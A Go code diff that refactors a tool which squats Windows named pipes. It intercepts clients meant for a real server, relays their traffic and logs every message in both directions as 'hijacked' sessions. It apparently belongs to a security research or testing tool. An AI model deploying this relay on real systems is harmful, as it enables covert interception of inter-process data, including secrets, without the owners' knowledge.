@@ -2,13 +2,10 @@ package main
 
 import (
 	"bufio"
-	"fmt"
-	"net"
+	"context"
+	"io"
+	"sync"
 	"time"
-	"unsafe"
-
-	"github.com/Microsoft/go-winio"
-	"golang.org/x/sys/windows"
 )
 
 //var readFromCliChannels = make(map[windows.Handle]chan string)
@@ -16,14 +13,33 @@ import (
 
 //////////////////////////////////////////////////
 
-func writeToNP(conn net.Conn, data []byte, toNP chan bool) {
+// readFromConn reads a whole message, chunk after chunk until a short one
+func readFromConn(conn io.Reader) (int, []byte, error) {
+	var bufferSize int = 1024
+	var data []byte
+	for {
+		buffer := make([]byte, bufferSize)
+		n, err := conn.Read(buffer)
+		if err != nil {
+			return len(data), data, err
+		}
+		data = append(data, buffer[:n]...)
+		if n < bufferSize {
+			break
+		}
+	}
+
+	return len(data), data, nil
+}
+
+func writeToNP(conn io.Writer, data []byte, toNP chan bool) {
 	writer := bufio.NewWriter(conn)
 	writer.Write(data)
 	writer.Flush()
 	toNP <- true
 }
 
-func readFromNP(conn net.Conn, fromNP chan []byte) {
+func readFromNP(conn io.ReadCloser, fromNP chan []byte) {
 	for {
 		dataLen, data, err := readFromConn(conn)
 		if err != nil {
@@ -40,66 +56,23 @@ func readFromNP(conn net.Conn, fromNP chan []byte) {
 	}
 }
 
-func writeToCli(handle windows.Handle, data []byte, toCli chan bool) {
-	var overlapped windows.Overlapped
-	overlapped.HEvent, _ = windows.CreateEvent(nil, 1, 0, nil)
-	defer windows.CloseHandle(overlapped.HEvent)
-
-	ret, _, _ := procWriteFileEx.Call(
-		uintptr(handle),
-		uintptr(unsafe.Pointer(&data[0])),
-		uintptr(len(data)),
-		uintptr(unsafe.Pointer(&overlapped)),
-		windows.NewCallback(func(errCode uint32, numBytes uint32, lpOverlapped *windows.Overlapped) uintptr {
-			// fmt.Println("Bytes Written:", numBytes)
-			return 0
-		}),
-	)
-	if ret == 0 {
-		// fmt.Println("Error calling WriteFileEx:", err)
-		toCli <- false
-		return
-	}
-
-	// Wait for the overlapped operation to complete
-	// procWaitForSingleObject.Call(uintptr(overlapped.HEvent), windows.INFINITE)
-	windows.SleepEx(windows.INFINITE, true)
-
-	toCli <- true
+func writeToCli(client io.Writer, data []byte, toCli chan bool) {
+	_, err := client.Write(data)
+	toCli <- err == nil
 }
 
-func readFromCli(handle windows.Handle, fromCli chan []byte) {
+func readFromCli(client io.Reader, fromCli chan []byte) {
 	for {
-		var overlapped windows.Overlapped
-		overlapped.HEvent, _ = windows.CreateEvent(nil, 1, 0, nil)
-		defer windows.CloseHandle(overlapped.HEvent)
-
 		// Buffer to read data into
 		buffer := make([]byte, 1024)
 
-		// Call ReadFileEx
-		var bytesRead uint32
-		ret, _, _ := procReadFileEx.Call(
-			uintptr(handle),
-			uintptr(unsafe.Pointer(&buffer[0])),
-			uintptr(len(buffer)),
-			uintptr(unsafe.Pointer(&overlapped)),
-			windows.NewCallback(func(errCode uint32, numBytes uint32, lpOverlapped *windows.Overlapped) uintptr {
-				bytesRead = numBytes
-				return 0
-			}),
-		)
-		if ret == 0 {
+		bytesRead, err := client.Read(buffer)
+		if err != nil {
 			var empty []byte
 			fromCli <- empty
-			// fmt.Println("Error calling ReadFileEx:", err)
 			return
 		}
 
-		// Wait for the overlapped operation to complete
-		// procWaitForSingleObject.Call(uintptr(overlapped.HEvent), windows.INFINITE)
-		windows.SleepEx(windows.INFINITE, true)
-
 		data := buffer[:bytesRead]
 		if len(data) > 0 {
 			fromCli <- data
@@ -109,14 +82,26 @@ func readFromCli(handle windows.Handle, fromCli chan []byte) {
 	}
 }
 
-func handleClientHJ(conn net.Conn, handle windows.Handle, pipeName string, sessionID int) {
+// handleClientHJ relays between client, connected to our instance, and conn, connected to the real server
+func handleClientHJ(ctx context.Context, conn io.ReadWriteCloser, client io.ReadWriteCloser, pipeName string, sessionID int) {
 	defer conn.Close()
-	defer windows.CloseHandle(handle)
-
-	defer fmt.Printf("⚡ %s    ❌ [%03d] End client for %s\n", timeFormat(time.Now()), sessionID, pipeName)
+	defer client.Close()
+
+	// On shutdown, end pending reads on both sides so the squatted pipe is released
+	stopCancel := context.AfterFunc(ctx, func() {
+		client.Close()
+		conn.Close()
+	})
+	defer stopCancel()
+
+	defer func() {
+		event := clientEvent(pipeEvent(pipeName, "disconnected"), sessionID)
+		printEvent(event, "⚡ %s    ❌ [%03d] End client for %s\n", timeFormat(event.Time), sessionID, pipeName)
+	}()
 	defer time.Sleep(500 * time.Millisecond)
 
-	fmt.Printf("⚡ %s    ⚪ [%03d] Hijacking new client for %s\n", timeFormat(time.Now()), sessionID, pipeName)
+	event := clientEvent(pipeEvent(pipeName, "hijacked"), sessionID)
+	printEvent(event, "⚡ %s    ⚪ [%03d] Hijacking new client for %s\n", timeFormat(event.Time), sessionID, pipeName)
 
 	// channels
 	fromNP := make(chan []byte)
@@ -125,10 +110,13 @@ func handleClientHJ(conn net.Conn, handle windows.Handle, pipeName string, sessi
 	toCli := make(chan bool)
 
 	go readFromNP(conn, fromNP)
-	go readFromCli(handle, fromCli)
+	go readFromCli(client, fromCli)
 
 	for {
 		select {
+		case <-ctx.Done():
+			return
+
 		case success := <-toNP:
 			if success {
 				// fmt.Printf("⚡ %s    ⚡ [%03d] Flushed to %s\n", timeFormat(time.Now()), sessionID, pipeName)
@@ -147,14 +135,15 @@ func handleClientHJ(conn net.Conn, handle windows.Handle, pipeName string, sessi
 			// Print received data from NP
 			dataLen := len(data)
 			if dataLen > 0 {
-				fmt.Printf("⚡ %s    ⚡ [%03d] %dB FROM %s: %q\n", timeFormat(time.Now()), sessionID, dataLen, pipeName, data)
+				event := clientEvent(pipeDataEvent(pipeName, "from_server", data), sessionID)
+				printEvent(event, "⚡ %s    ⚡ [%03d] %dB FROM %s: %q\n", timeFormat(event.Time), sessionID, dataLen, pipeName, data)
 			} else {
 				return
 			}
 
 			// Send data to Client
 			toCli = make(chan bool)
-			go writeToCli(handle, data, toCli)
+			go writeToCli(client, data, toCli)
 
 			// Read again from NP
 			fromNP = make(chan []byte)
@@ -164,7 +153,8 @@ func handleClientHJ(conn net.Conn, handle windows.Handle, pipeName string, sessi
 			// Print received data from Client
 			dataLen := len(data)
 			if dataLen > 0 {
-				fmt.Printf("⚡ %s    ⚡ [%03d] %dB TO %s: %q\n", timeFormat(time.Now()), sessionID, dataLen, pipeName, data)
+				event := clientEvent(pipeDataEvent(pipeName, "to_server", data), sessionID)
+				printEvent(event, "⚡ %s    ⚡ [%03d] %dB TO %s: %q\n", timeFormat(event.Time), sessionID, dataLen, pipeName, data)
 			} else {
 				return
 			}
@@ -175,51 +165,61 @@ func handleClientHJ(conn net.Conn, handle windows.Handle, pipeName string, sessi
 
 			// Read again from Client
 			fromCli = make(chan []byte)
-			go readFromCli(handle, fromCli)
+			go readFromCli(client, fromCli)
 		}
 	}
 }
 
-func startServerHJ(pipeName string) {
+func startServerHJ(ctx context.Context, pipeName string) {
 	sessionID := 0
-	for {
-		var err error
-		var conn net.Conn
-		var handle windows.Handle
+	var sessions sync.WaitGroup
+	defer sessions.Wait()
 
+	for ctx.Err() == nil {
 		// Wait for targeted NP to start
 		time.Sleep(100 * time.Millisecond)
 
 		// Create our Pipe
-		handle, err = createDuplexPipe(pipeName)
+		server, err := osPipes.create(pipeName)
 		if err != nil {
 			return
 		}
 
 		// Connect to targeted NP
-		conn, err = winio.DialPipe(pipeName, nil)
+		conn, err := osPipes.dial(ctx, pipeName)
 		if err != nil {
-			fmt.Printf("⚡ %s    🔴 [%03d] Can't connect to %s \n", timeFormat(time.Now()), sessionID, pipeName)
+			server.Close()
+			if ctx.Err() != nil {
+				return
+			}
+			event := clientEvent(pipeErrorEvent(pipeName, err), sessionID)
+			printEvent(event, "⚡ %s    🔴 [%03d] Can't connect to %s \n", timeFormat(event.Time), sessionID, pipeName)
 			break
 		}
-		fmt.Printf("⚡ %s    ⚪ [%03d] Connected to %s \n", timeFormat(time.Now()), sessionID, pipeName)
+		event := clientEvent(pipeEvent(pipeName, "connected"), sessionID)
+		printEvent(event, "⚡ %s    ⚪ [%03d] Connected to %s \n", timeFormat(event.Time), sessionID, pipeName)
 
-		// Listen for client
-		err = windows.ConnectNamedPipe(handle, nil)
+		// Listen for client, shutdown closes our pipe and ends the wait
+		err = server.Connect(ctx)
+		if ctx.Err() != nil {
+			server.Close()
+			conn.Close()
+			return
+		}
 		if err != nil {
-			switch err {
-			case windows.ERROR_PIPE_CONNECTED:
-				//
-			default:
-				fmt.Printf("⚡ %s    🔴 [%03d] Client connect error for %s (%v)\n", timeFormat(time.Now()), sessionID, pipeName, err)
-				windows.CloseHandle(handle)
-				return
-			}
-			break
+			event := clientEvent(pipeErrorEvent(pipeName, err), sessionID)
+			printEvent(event, "⚡ %s    🔴 [%03d] Client connect error for %s (%v)\n", timeFormat(event.Time), sessionID, pipeName, err)
+			server.Close()
+			conn.Close()
+			return
 		}
 
 		// Handle client
-		go handleClientHJ(conn, handle, pipeName, sessionID)
+		sessions.Add(1)
+		go func(sessionID int) {
+			defer sessions.Done()
+			handleClientHJ(ctx, conn, server, pipeName, sessionID)
+		}(sessionID)
 		sessionID++
 	}
 }